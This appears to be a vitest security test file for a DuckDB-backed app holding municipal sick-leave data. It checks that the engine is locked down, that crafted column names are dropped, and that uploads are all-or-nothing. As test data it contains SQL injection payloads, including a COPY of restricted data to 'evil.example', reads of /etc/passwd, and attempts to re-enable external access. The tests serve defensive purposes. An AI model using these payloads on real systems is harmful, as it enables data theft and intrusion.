import { DuckDBInstance } from '@duckdb/node-api';
import { tableFromIPC } from 'apache-arrow';
import { mkdtempSync, readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { readParquet } from 'parquet-wasm/node';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { appendStatements, STAGE } from '../../src/lib/db/append-sql';
import { arrowToRows } from '../../src/lib/db/arrow-rows';
import { ENGINE_SETTINGS } from '../../src/lib/db/engine-settings';
import { fragment, sql } from '../../src/lib/queries/sql';
import { COLUMNS } from '../../src/lib/schema/columns';
import { emptyDatabase, insert, kpi } from '../helpers/fixture';
import type { NodeRunner } from '../helpers/node-runner';

/** Column names a hostile file could carry: quotes, statement breaks, table functions that reach out. */
const HOSTILE_NAMES = [
	'kommun"; DROP TABLE budget; --',
	'value" * 10 AS "value',
	"x\" FROM restricted.sick_leave, read_csv('http://127.0.0.1:9/leak.csv') --",
	"'); COPY (SELECT * FROM restricted.sick_leave) TO 'http://evil.example/x.csv'; --",
	'__proto__',
	'constructor'
];

let db: NodeRunner;
let requests = 0;
const server = createServer((_, res) => (requests++, res.end('a\n1\n')));
let url = '';

/** Every table's contents, as a hash: "nothing changed" is proven, not assumed. */
async function contents(): Promise<Record<string, string>> {
	const out: Record<string, string> = {};
	for (const t of ['restricted.sick_leave', 'restricted.staffing', 'main.budget', 'main.kpi_safe'])
		out[t] = String(
			(
				await db.all(
					sql`SELECT count(*) || ':' || coalesce(md5(string_agg(x::VARCHAR, '|' ORDER BY x::VARCHAR)), '') AS h FROM ${fragment(t)} x`
				)
			)[0]!.h
		);
	return out;
}

beforeAll(async () => {
	await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
	url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
	db = await emptyDatabase();
	await insert(db, 'sick_leave', [
		kpi({
			kommun: '9999',
			measure: 'sick_leave_total_pct',
			value: 6.5,
			n: 40,
			period_start: '2024-01-01',
			period_end: '2024-12-31',
			period_label: '2024'
		})
	]);
	// The browser's settings, in the browser's order, on the same engine version.
	for (const s of ENGINE_SETTINGS) await db.all(s);
});
afterAll(() => {
	db?.close();
	server.close();
});

describe('the engine cannot reach out, and its settings cannot be undone', () => {
	it('the test server answers when asked (so zero requests below means something)', async () => {
		expect(await (await fetch(`${url}/probe.csv`)).text()).toBe('a\n1\n');
		expect(requests).toBe(1);
		requests = 0;
	});

	for (const [name, text] of [
		['read_csv over HTTP', `SELECT * FROM read_csv('URL/leak.csv')`],
		['read_text of a local file', `SELECT * FROM read_text('/etc/passwd')`],
		['COPY to a URL', `COPY (SELECT * FROM facts) TO 'URL/leak.csv'`],
		['COPY to a local file', `COPY (SELECT 1) TO '/tmp/tertial-leak.csv'`],
		['ATTACH a file', `ATTACH '/tmp/tertial-leak.db' AS leak`],
		['re-enable external access', 'SET enable_external_access = true'],
		['unlock the configuration', 'SET lock_configuration = false'],
		['install an extension', 'INSTALL httpfs'],
		['two statements in one call', 'SELECT 1; DROP TABLE main.budget']
	] as const)
		it(`refuses: ${name}`, async () => {
			await expect(db.all({ text: text.replace('URL', url), params: [] })).rejects.toThrow();
			expect(requests).toBe(0);
		});

	it('the views still build with everything locked (setup needs no external access)', async () => {
		const before = await contents();
		await db.createViews();
		expect(await contents()).toEqual(before);
	});
});

describe('a file’s column names never become SQL', () => {
	it('a crafted Parquet file: hostile column names are dropped, known ones kept, nothing run', async () => {
		const dir = mkdtempSync(join(tmpdir(), 'tertial-'));
		const file = join(dir, 'hostile.parquet');
		const native = await (await DuckDBInstance.create(':memory:')).connect();
		const cols = HOSTILE_NAMES.map((n, i) => `${i} AS "${n.replaceAll('"', '""')}"`).join(', ');
		await native.run(
			`COPY (SELECT '9999' AS kommun, 6.5::DOUBLE AS value, DATE '2024-01-31' AS period_end, ${cols}) TO '${file}'`
		);
		const before = await contents();
		const table = tableFromIPC(readParquet(new Uint8Array(readFileSync(file))).intoIPCStream());
		expect(table.schema.fields.map((f) => f.name)).toEqual(['kommun', 'value', 'period_end', ...HOSTILE_NAMES]);
		const rows = arrowToRows(table);
		expect(rows).toEqual([{ kommun: '9999', value: 6.5, period_end: '2024-01-31' }]);
		expect(Object.getPrototypeOf(rows[0])).toBe(Object.prototype);
		expect(await contents()).toEqual(before);
		expect(requests).toBe(0);
	});
});

describe('an upload is all or nothing', () => {
	async function stage(rows: Record<string, string | null>[]) {
		const { drop } = appendStatements('sick_leave');
		await db.all(drop);
		const cols = Object.keys(COLUMNS.sick_leave);
		await db.all(
			sql`CREATE TABLE ${fragment(`${STAGE.schema}."${STAGE.name}"`)} (${fragment(cols.map((c) => `"${c}" VARCHAR`).join(', '))})`
		);
		for (const r of rows)
			await db.all({
				text: `INSERT INTO ${STAGE.schema}."${STAGE.name}" (${cols.map((c) => `"${c}"`).join(', ')}) VALUES (${cols.map(() => '?').join(', ')})`,
				params: cols.map((c) => r[c] ?? null)
			});
	}
	const row = (more: Record<string, string>) => ({
		kommun: '9999',
		period_start: '2024-01-01',
		period_end: '2024-01-31',
		period_kind: 'month',
		period_label: 'jan 2024',
		measure: 'sick_leave_total_pct',
		value_kind: 'actual',
		sex: 'T',
		value: '6.1',
		unit: '%',
		n: '40',
		source: 'Eget extrakt: test.csv',
		...more
	});

	it('a file whose last row cannot be cast (30 February) changes nothing, in any table', async () => {
		const before = await contents();
		await stage([row({}), row({ period_start: '2023-02-30', period_end: '2023-02-30' })]);
		await expect(db.all(appendStatements('sick_leave').insert)).rejects.toThrow(/date|Conversion/i);
		await db.createViews();
		expect(await contents()).toEqual(before);
	});

	it('a count too large for INTEGER changes nothing either', async () => {
		const before = await contents();
		await stage([row({}), row({ n: String(2 ** 31) })]);
		await expect(db.all(appendStatements('sick_leave').insert)).rejects.toThrow();
		await db.createViews();
		expect(await contents()).toEqual(before);
	});

	it('a good file changes exactly the extract it was loaded into (and what is built on it)', async () => {
		const before = await contents();
		await stage([row({}), row({ period_start: '2024-02-01', period_end: '2024-02-29', period_label: 'feb 2024' })]);
		await db.all(appendStatements('sick_leave').insert);
		await db.createViews();
		const after = await contents();
		expect(after['main.budget']).toBe(before['main.budget']);
		expect(after['restricted.staffing']).toBe(before['restricted.staffing']);
		expect(after['restricted.sick_leave']).toMatch(/^3:/);
		expect(after['main.kpi_safe']).toMatch(/^3:/);
	});
});
